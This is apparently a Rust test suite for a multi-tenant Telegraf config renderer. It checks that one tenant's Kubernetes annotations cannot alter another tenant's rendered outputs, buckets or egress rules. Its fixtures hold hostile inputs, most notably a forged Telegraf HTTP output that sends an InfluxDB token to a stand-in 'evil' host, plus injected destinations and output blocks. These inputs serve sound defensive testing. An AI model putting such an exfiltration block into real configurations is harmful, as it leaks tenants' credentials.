//! Several tenants at once: what one of them writes changes nothing for another.

use std::collections::BTreeMap;

use proptest::prelude::*;
use rstest::rstest;
use serde_json::{Value, json};
use telewarden_policy::protocol::{Outcome, RenderAnswer};
use telewarden_policy::render::render;

const KEY: &str = "telegraf.influxdata.com/rubin-telegraf-operator";

fn application(namespace: &str, name: &str, destination: &str, annotations: Value) -> Value {
    json!({
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Application",
        "metadata": {"name": name, "namespace": namespace, "annotations": annotations},
        "spec": {"destination": {"namespace": destination, "server": "https://kubernetes.default.svc"}},
    })
}

fn namespace(name: &str, annotations: Value) -> Value {
    json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "annotations": annotations}})
}

/// An annotation with one endpoint of a namespace.
fn endpoint_in(namespace: &str) -> Value {
    json!({KEY: format!("web: http://web.{namespace}.svc:8080/metrics")})
}

fn settings(topology: &str) -> Value {
    json!({"topology": topology, "networkPolicy": true, "sources": {"applicationNamespaces": ["team-a", "team-b"]}})
}

fn rendered(settings: &Value, sources: &[Value], accepted: &[Value]) -> RenderAnswer {
    let request = json!({"protocol": 1, "settings": settings, "sources": sources, "accepted": accepted});
    render(&serde_json::from_str(&request.to_string()).unwrap())
}

/// The declarations that a host would remember.
fn accepted(answer: &RenderAnswer) -> Vec<Value> {
    answer
        .sources
        .iter()
        .filter_map(|source| source.accepted.clone())
        .collect()
}

/// The files of the one Telegraf of `standalone`.
fn files(answer: &RenderAnswer) -> &BTreeMap<String, String> {
    &answer.shared.as_ref().unwrap().configurations[0].files
}

/// The egress rules of the one Telegraf of `standalone`.
fn egress(answer: &RenderAnswer) -> &Value {
    let objects = &answer.shared.as_ref().unwrap().objects;
    let policy = objects.iter().find(|object| object["kind"] == "NetworkPolicy").unwrap();
    &policy["spec"]["egress"]
}

#[rstest]
#[case::broken_url(json!({KEY: "web: nonsense"}), "shop")]
#[case::only_a_mistake(json!({"telegraf.influxdata.com/port": "8080"}), "shop")]
#[case::no_such_class(json!({KEY: "web: http://web.shop.svc:1/m", "telegraf.influxdata.com/class": "nowhere"}), "shop")]
#[case::no_such_destination(endpoint_in("shop"), "evil.example/#")]
#[case::a_variable_as_destination(endpoint_in("shop"), "$INFLUX_TOKEN")]
#[case::the_destination_of_another(json!({KEY: "web: nonsense"}), "victim")]
fn a_refused_source_keeps_what_was_accepted(#[case] annotations: Value, #[case] destination: &str) {
    let mut settings = settings("standalone");
    settings["classes"] = json!({"default": {"outputs": {"influxdb_v2": [{
        "urls": ["http://influxdb.{namespace}.svc:8086"], "organization": "o", "bucket": "{namespace}", "token": "${T}",
    }]}}});
    let other = application("argocd", "other", "other", endpoint_in("other"));
    let good = application("argocd", "shop", "shop", endpoint_in("shop"));
    let before = rendered(&settings, &[good, other.clone()], &[]);
    let broken = application("argocd", "shop", destination, annotations);
    let after = rendered(&settings, &[broken.clone(), other.clone()], &accepted(&before));
    assert_eq!(after.sources[0].outcome, Outcome::Refused);
    assert_eq!(files(&after), files(&before));
    assert_eq!(egress(&after), egress(&before));
    // Without a former declaration nothing is made up.
    let alone = rendered(&settings, &[broken, other], &[]);
    let text = files(&alone).values().cloned().collect::<String>();
    assert!(
        !text.contains("victim") && !text.contains("evil.example") && !text.contains("$INFLUX_TOKEN"),
        "{text}"
    );
}

#[test]
fn a_source_that_asks_for_nothing_any_more_keeps_nothing() {
    let settings = settings("standalone");
    let before = rendered(
        &settings,
        &[application("argocd", "shop", "shop", endpoint_in("shop"))],
        &[],
    );
    let unannotated = application("argocd", "shop", "shop", json!({"other.example/annotation": "x"}));
    let after = rendered(&settings, &[unannotated], &accepted(&before));
    assert_eq!(after.sources[0].outcome, Outcome::Idle);
    assert_eq!(files(&after).len(), 1);
}

#[test]
fn a_remembered_declaration_is_checked_like_any_other() {
    let mut settings = settings("standalone");
    let forged = application(
        "argocd",
        "shop",
        "shop",
        json!({KEY: "web: http://web.victim.svc:8080/metrics"}),
    );
    let text = json!("[[outputs.http]]\nurl = \"http://evil/?t=${INFLUX_TOKEN}\"");
    for forged in [forged, text, json!({"kind": "ConfigMap"}), json!(null)] {
        let answer = rendered(&settings, &[], &[forged]);
        assert_eq!(files(&answer).len(), 1);
    }
    // What the settings no longer allow is left out.
    let good = application("argocd", "shop", "shop", endpoint_in("shop"));
    let remembered = accepted(&rendered(&settings, &[good], &[]));
    settings["endpoints"] = json!({"schemes": ["https"]});
    assert_eq!(files(&rendered(&settings, &[], &remembered)).len(), 1);
}

#[test]
fn sources_of_one_name_are_routed_apart() {
    let sources = [
        application("argocd", "shop", "shop", endpoint_in("shop")),
        application("team-a", "shop", "team-a", endpoint_in("team-a")),
        namespace("shop", endpoint_in("shop")),
    ];
    let answer = rendered(&settings("standalone"), &sources, &[]);
    assert!(answer.sources.iter().all(|source| source.outcome == Outcome::Rendered));
    let of = |file: &str| files(&answer)[file].parse::<toml::Table>().unwrap();
    let routed = |file: &str| {
        let table = of(file);
        let output = &table["outputs"]["influxdb_v2"][0];
        let tag = &table["inputs"]["prometheus"][0]["tags"]["telewarden_source"];
        assert_eq!(output["tagpass"]["telewarden_source"][0], *tag);
        assert_eq!(output["tagexclude"][0].as_str(), Some("telewarden_source"));
        (tag.clone(), output["bucket"].as_str().unwrap().to_owned())
    };
    let (argocd, bucket) = routed("application.argocd.shop.conf");
    let (team, bucket_of_team) = routed("application.team-a.shop.conf");
    let (of_namespace, bucket_of_namespace) = routed("namespace.shop.conf");
    assert!(argocd != team && team != of_namespace && argocd != of_namespace);
    assert_eq!((bucket.as_str(), bucket_of_team.as_str()), ("shop", "team_a:shop"));
    assert_eq!(bucket_of_namespace, "Namespace:shop");
    let mut shared = settings("standalone");
    shared["sources"]["sharedBuckets"] = json!(true);
    let answer = rendered(&shared, &sources, &[]);
    for file in files(&answer).values().skip(1) {
        assert!(file.contains("bucket = \"shop\""), "{file}");
    }
}

#[rstest]
#[case::bucket_tag(json!({"bucket_tag": "tenant"}))]
#[case::tagpass(json!({"tagpass": {"tenant": ["a"]}}))]
#[case::tagdrop(json!({"tagdrop": {"tenant": ["a"]}}))]
fn a_scraped_label_does_not_choose_an_output(
    #[case] option: Value,
    #[values("application", "endpoint", "standalone")] topology: &str,
) {
    let mut settings = settings(topology);
    let mut output = json!({"urls": ["http://i.i.svc:8086"], "organization": "o", "bucket": "all", "token": "t"});
    output
        .as_object_mut()
        .unwrap()
        .extend(option.as_object().unwrap().clone());
    settings["classes"] = json!({"default": {"outputs": {"influxdb_v2": [output]}}});
    let answer = rendered(
        &settings,
        &[application("argocd", "shop", "shop", endpoint_in("shop"))],
        &[],
    );
    let rendered = answer.shared.as_ref().unwrap_or(&answer.sources[0].rendered);
    let text = rendered.configurations[0].files.values().next_back().unwrap();
    let table = text.parse::<toml::Table>().unwrap();
    assert_eq!(
        table["inputs"]["prometheus"][0]["tagdrop"]["tenant"][0].as_str(),
        Some("*")
    );
}

#[rstest]
#[case::by_default(json!({}), true)]
#[case::turned_off(json!({"protectGlobalTags": false}), false)]
fn global_tags_are_protected(#[case] inputs: Value, #[case] protected: bool) {
    let mut settings = settings("application");
    settings["classes"] = json!({"default": {"globalTags": {"cluster": "prod"}}});
    settings["inputs"] = inputs;
    let source = application("argocd", "shop", "shop", endpoint_in("shop"));
    let answer = rendered(&settings, &[source], &[]);
    let text = &answer.sources[0].rendered.configurations[0].files["telegraf.conf"];
    let table = text.parse::<toml::Table>().unwrap();
    let excluded = table["inputs"]["prometheus"][0]["tagexclude"].as_array().unwrap();
    assert_eq!(excluded.iter().any(|tag| tag.as_str() == Some("cluster")), protected);
    assert_eq!(table["agent"].get("always_include_global_tags").is_some(), protected);
    // Neither can an annotation set one.
    let mut annotations = endpoint_in("shop");
    annotations["telegraf.influxdata.com/global-tag-literal-cluster"] = json!("dev");
    let answer = rendered_alone(&settings, annotations);
    assert_eq!(answer.sources[0].outcome == Outcome::Refused, protected);
}

fn rendered_alone(settings: &Value, annotations: Value) -> RenderAnswer {
    rendered(settings, &[application("argocd", "shop", "shop", annotations)], &[])
}

#[test]
fn a_class_for_others_refuses_no_object_without_annotations() {
    let settings = json!({"classes": {"default": {"allow": ["nobody"]}}});
    let set = json!({
        "apiVersion": "argoproj.io/v1alpha1", "kind": "ApplicationSet",
        "metadata": {"name": "s", "namespace": "argocd"},
        "spec": {"template": {"metadata": {"name": "{{name}}"}, "spec": {"destination": {"namespace": "{{name}}"}}}},
    });
    let sources = [
        namespace("plain", json!({})),
        application("argocd", "plain", "plain", json!({"a": "b"})),
        set,
    ];
    let answer = rendered(&settings, &sources, &[]);
    for source in &answer.sources {
        assert_eq!(source.diagnostics, [], "{}", source.source);
    }
}

/// Whoever may create Applications in a namespace of its own chooses their names.
#[rstest]
#[case("security-*", "argocd", "security-x", true)]
#[case("security-*", "team-a", "security-x", false)]
#[case("security-*", "security-evil", "shop", false)]
#[case("security-evil/*", "security-evil", "shop", true)]
#[case("argocd/audit", "argocd", "audit", true)]
#[case("argocd/audit", "team-a", "audit", false)]
#[case("*/audit", "team-a", "audit", true)]
#[case("*", "team-a", "audit", true)]
fn a_class_is_for_whole_identities(
    #[case] allow: &str,
    #[case] namespace: &str,
    #[case] name: &str,
    #[case] is_allowed: bool,
) {
    let settings = json!({
        "sources": {"applicationNamespaces": ["team-a", "security-evil"]},
        "classes": {"default": {"allow": [allow]}},
    });
    let answer = rendered(
        &settings,
        &[application(namespace, name, "shop", endpoint_in("shop"))],
        &[],
    );
    let is_refused = answer.sources[0]
        .diagnostics
        .iter()
        .any(|finding| finding.code == "TW304");
    assert_eq!(!is_refused, is_allowed, "{:?}", answer.sources[0].diagnostics);
}

#[test]
fn a_large_source_is_refused_alone() {
    let mut settings = settings("standalone");
    settings["endpoints"] = json!({"max": 100_000});
    let path = "x".repeat(700);
    let many: String = (0..150)
        .map(|n| format!("- w{n}: http://web.shop.svc:8080/{path}{n}\n"))
        .collect();
    let other = application("argocd", "other", "other", endpoint_in("other"));
    let large = application("argocd", "shop", "shop", json!({KEY: many}));
    let answer = rendered(&settings, &[large, other.clone()], &[]);
    assert_eq!(answer.sources[0].outcome, Outcome::Refused);
    assert_eq!(answer.sources[0].diagnostics[0].code, "TW406");
    assert_eq!(files(&answer), files(&rendered(&settings, &[other], &[])));
}

#[test]
fn one_tenant_does_not_take_all_the_room() {
    let mut settings = settings("standalone");
    settings["endpoints"] = json!({"max": 100_000});
    let path = "x".repeat(700);
    let many = |namespace: &str| {
        let lines = (0..85).map(|n| format!("- w{n}: http://web.{namespace}.svc:8080/{path}{n}\n"));
        json!({KEY: lines.collect::<String>()})
    };
    let mut sources: Vec<_> = (0..9)
        .map(|n| application("team-a", &format!("shop-{n}"), "team-a", many("team-a")))
        .collect();
    sources.push(application("team-b", "late", "team-b", many("team-b")));
    let answer = rendered(&settings, &sources, &[]);
    let is_refused = |source: &&telewarden_policy::protocol::SourceAnswer| source.outcome == Outcome::Refused;
    assert!(answer.sources.iter().filter(is_refused).count() >= 6);
    assert_eq!(answer.sources[9].outcome, Outcome::Rendered);
    // Whoever was there first stays, also when the others come before it in the request.
    let first = rendered(&settings, &sources[4..5], &[]);
    let answer = rendered(&settings, &sources, &accepted(&first));
    assert_eq!(answer.sources[4].outcome, Outcome::Rendered);
}

#[test]
fn a_tag_is_of_bounded_length() {
    for (length, outcome) in [(1024, Outcome::Rendered), (1025, Outcome::Refused)] {
        let value = "x".repeat(length);
        let mut annotations = endpoint_in("shop");
        annotations["telegraf.influxdata.com/global-tag-literal-t"] = json!(value);
        assert_eq!(rendered_alone(&json!({}), annotations).sources[0].outcome, outcome);
        let tags = json!({"web": {"url": "http://web.shop.svc:1/m", "tags": {"t": value}}}).to_string();
        assert_eq!(
            rendered_alone(&json!({}), json!({KEY: tags})).sources[0].outcome,
            outcome
        );
    }
}

#[test]
fn a_bucket_in_a_label_is_a_labels_value() {
    let mut settings = settings("application");
    settings["pod"] = json!({"labels": {"bucket": "{bucket}"}});
    let source = application("team-a", "shop", "team-a", endpoint_in("team-a"));
    let answer = rendered(&settings, &[source], &[]);
    let deployment = answer.sources[0].rendered.objects.last().unwrap();
    let label = deployment["spec"]["template"]["metadata"]["labels"]["bucket"]
        .as_str()
        .unwrap();
    assert!(label.starts_with("team_a-shop-") && !label.contains(':'), "{label}");
}

#[test]
fn names_are_looked_up_at_the_clusters_dns_alone() {
    let mut settings = settings("application");
    settings["dns"] = json!({"namespace": "dns", "port": 5353, "addresses": ["169.254.20.10"]});
    let answer = rendered_alone(&settings, endpoint_in("shop"));
    let objects = &answer.sources[0].rendered.objects;
    let policy = objects.iter().find(|object| object["kind"] == "NetworkPolicy").unwrap();
    let rules = policy["spec"]["egress"].as_array().unwrap();
    let ports = |number: u16| json!([{"port": number, "protocol": "UDP"}, {"port": number, "protocol": "TCP"}]);
    assert_eq!(
        rules[..2],
        [
            json!({"ports": ports(5353), "to": [{
                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "dns"}},
                "podSelector": {"matchLabels": {"k8s-app": "kube-dns"}},
            }]}),
            json!({"ports": ports(53), "to": [{"ipBlock": {"cidr": "169.254.20.10/32"}}]}),
        ]
    );
    assert!(rules.iter().all(|rule| rule["to"].is_array()), "{rules:#?}");
}

#[rstest]
#[case::variables("env-literal-V", true)]
#[case::tags("global-tag-literal-t", true)]
#[case::written_by_the_policy("rendered", false)]
fn annotations_for_all_endpoints_are_small_together(#[case] name: &str, #[case] counts: bool) {
    let lines: String = (0..64)
        .map(|n| format!("- w{n}: http://web.shop.svc:8080/{n}\n"))
        .collect();
    let mut annotations = json!({KEY: lines});
    for n in 0..20 {
        annotations[format!("telegraf.influxdata.com/{name}{n}")] = json!("x".repeat(1000));
    }
    let mut settings = settings("endpoint");
    settings["allow"] = json!({"env": true});
    let answer = rendered_alone(&settings, annotations);
    let source = &answer.sources[0];
    assert_eq!(source.outcome == Outcome::Refused, counts, "{:?}", source.diagnostics);
}

/// What belongs to one tenant of all that is rendered.
fn of_tenant(answer: &RenderAnswer, name: &str) -> Value {
    let source = answer
        .sources
        .iter()
        .find(|source| source.source.contains(name))
        .unwrap();
    let files = answer.shared.as_ref().map(|shared| &shared.configurations[0].files);
    let files: BTreeMap<_, _> = files
        .into_iter()
        .flatten()
        .filter(|(file, _)| file.contains(name))
        .collect();
    let shared = answer
        .shared
        .as_ref()
        .map(|shared| &shared.configurations[0].files["00-telegraf.conf"]);
    json!({"answer": {
        "outcome": source.outcome, "diagnostics": source.diagnostics, "endpoints": source.endpoints,
        "rendered": source.rendered, "accepted": source.accepted,
    }, "files": files, "shared": shared})
}

/// Text that a tenant may write anywhere.
fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "[a-z]{1,8}: http://[a-z]{1,6}\\.(good|evil)\\.svc:8080/metrics",
        Just(
            "web:\n  url: http://web.evil.svc:1/m\n  tags: {telewarden_source: argoproj.io/Application/argocd/good}\n"
                .to_owned()
        ),
        Just("web:\n  url: http://web.evil.svc:1/m\n  tags: {prometheus_app: good}\n".to_owned()),
        Just("web:\n  url: http://web.evil.svc:1/m\n  url_tag: prometheus_app\n".to_owned()),
        Just("[[outputs.file]]\nfiles = [\"/tmp/x\"]".to_owned()),
        Just("- a: http://good.good.svc:1\n".repeat(50)),
        Just("x".repeat(200_000)),
        Just("${INFLUX_TOKEN}".to_owned()),
    ]
}

/// A source that a tenant may write, of any name but the other tenant's own.
fn hostile_source() -> impl Strategy<Value = Value> {
    let name = prop_oneof![
        "[a-z]{1,8}",
        Just("good".to_owned()),
        Just("good-00000000000000000000".to_owned())
    ];
    let key = prop_oneof![
        3 => Just(KEY.to_owned()),
        1 => Just("telegraf.influxdata.com/inputs".to_owned()),
        1 => Just("telegraf.influxdata.com/global-tag-literal-prometheus_app".to_owned()),
        1 => Just("telegraf.influxdata.com/class".to_owned()),
    ];
    let destination = prop_oneof![Just("evil".to_owned()), Just("good".to_owned()), hostile_text()];
    (
        name,
        any::<bool>(),
        destination,
        proptest::collection::btree_map(key, hostile_text(), 1..3),
    )
        .prop_map(|(name, of_namespace, destination, annotations)| match of_namespace {
            true => namespace(&name, json!(annotations)),
            false => application("team-b", &name, &destination, json!(annotations)),
        })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, ..ProptestConfig::default() })]
    #[test]
    fn nothing_of_another_tenant_changes(
        hostile in proptest::collection::vec(hostile_source(), 1..4),
        history in proptest::collection::vec(hostile_source(), 0..3),
        first in any::<bool>(),
        topology in prop_oneof![Just("application"), Just("endpoint"), Just("standalone")],
    ) {
        let settings = settings(topology);
        let good = application("argocd", "good", "good", endpoint_in("good"));
        let alone = rendered(&settings, std::slice::from_ref(&good), &[]);
        let remembered = accepted(&rendered(&settings, &history, &[]));
        let mut sources = hostile;
        sources.insert(if first { 0 } else { sources.len() }, good);
        let answer = rendered(&settings, &sources, &remembered);
        prop_assert_eq!(of_tenant(&answer, "argocd/good"), of_tenant(&alone, "argocd/good"));
        // No object of one source has the name of another's.
        let objects = answer.sources.iter().flat_map(|source| &source.rendered.objects);
        let mut ids: Vec<_> = objects.map(|object| {
            let metadata = &object["metadata"];
            format!("{} {} {}", object["kind"], metadata["namespace"], metadata["name"])
        }).collect();
        let count = ids.len();
        ids.sort();
        ids.dedup();
        prop_assert_eq!(ids.len(), count);
    }
}

/// What a host puts together from parts, by the names of objects.
fn put_together(settings: &Value, shards: usize, sources: &[Value]) -> BTreeMap<String, Value> {
    use telewarden_policy::render::{render_parts, render_shard};
    let mut parts = Vec::new();
    for source in sources {
        let request = json!({"protocol": 1, "settings": settings, "sources": [source]});
        parts.extend(render_parts(&serde_json::from_str(&request.to_string()).expect("a request")).parts);
    }
    let mut objects = BTreeMap::new();
    for shard in 0..shards {
        let here = parts
            .iter()
            .filter(|part| telewarden_policy::shards::place(&part.source, shards) == shard);
        let needs: Vec<_> = here.clone().flat_map(|part| &part.needs).collect();
        let request = json!({"protocol": 1, "settings": settings, "sources": [], "shard": shard, "needs": needs});
        let answer = render_shard(&serde_json::from_str(&request.to_string()).expect("a request"));
        for mut object in answer.shared.expect("a shard").objects {
            if object["kind"] == "ConfigMap" {
                for part in here.clone() {
                    object["data"][&part.file] = json!(part.text);
                }
            }
            objects.insert(format!("{} {}", object["kind"], object["metadata"]["name"]), object);
        }
    }
    objects
}

#[rstest]
#[case::one(1, json!({}))]
#[case::two(2, json!({"reload": "rollout"}))]
#[case::five(5, json!({"extraResources": [{"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "x"}}]}))]
#[case::with_tokens(3, json!({
    "influxdb": {"provide": "bucketsAndTokens"},
    "classes": {"default": {"outputs": {"influxdb_v2": [
        {"urls": ["http://influxdb.influxdb.svc:8086"], "organization": "o", "bucket": "{bucket}", "token": "${INFLUX_TOKEN}"},
    ]}}},
}))]
fn a_host_puts_together_what_is_rendered_of_all_sources(#[case] shards: usize, #[case] more: Value) {
    let mut settings = settings("standalone");
    settings["standalone"] = json!({"shards": shards});
    for (name, value) in more.as_object().unwrap() {
        settings[name] = value.clone();
    }
    let sources: Vec<_> = (0..12)
        .map(|number| {
            let to = format!("space-{}", number % 4);
            application("argocd", &format!("app-{number}"), &to, endpoint_in(&to))
        })
        .collect();
    let answer = rendered(&settings, &sources, &[]);
    let whole = answer.shared.as_ref().unwrap();
    assert_eq!(whole.configurations.len(), shards, "{:?}", answer.diagnostics);
    let whole: BTreeMap<_, _> = whole
        .objects
        .iter()
        .map(|object| {
            (
                format!("{} {}", object["kind"], object["metadata"]["name"]),
                object.clone(),
            )
        })
        .collect();
    assert_eq!(whole, put_together(&settings, shards, &sources));
}
